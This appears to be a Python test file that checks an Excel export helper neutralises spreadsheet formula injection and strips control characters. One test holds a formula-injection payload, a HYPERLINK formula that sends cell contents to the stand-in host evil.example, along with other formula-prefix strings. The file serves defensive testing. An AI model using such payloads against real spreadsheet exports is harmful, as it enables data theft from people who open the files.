"""The one Excel writer is safe for any stored text (security probe, issue 13 items 4–5)."""

import io

from openpyxl import load_workbook

from renda.lib.excel import build_xlsx


def _read(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows(min_row=2))[0]


def test_control_characters_do_not_break_the_export():
    data = build_xlsx("意见\x01", ["内容"], [["群众\x01意见\x07"], ["正常\t文字\n换行"]])
    rows = _read(data)
    assert rows[1] == ["群众意见"]
    assert rows[2] == ["正常\t文字\n换行"]  # tab and newline are legal in a cell


def test_formula_like_text_is_written_as_text():
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    data = build_xlsx(
        "建议", ["标题", "数"], [[payload, 5], ["+1+1", 1], ["-2", 2], ["@SUM(A1)", 3]]
    )
    cells = _cells(data)
    assert cells[0].value == payload
    assert cells[0].data_type == "s"
    assert cells[0].quotePrefix
    assert cells[1].value == 5 and cells[1].data_type == "n"
    rows = _read(data)
    assert [r[0] for r in rows[1:]] == [payload, "+1+1", "-2", "@SUM(A1)"]
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(2, 6))


def test_plain_text_and_numbers_unchanged():
    rows = _read(build_xlsx("t", ["a", "b"], [["冷水江", 12.5]]))
    assert rows == [["a", "b"], ["冷水江", 12.5]]
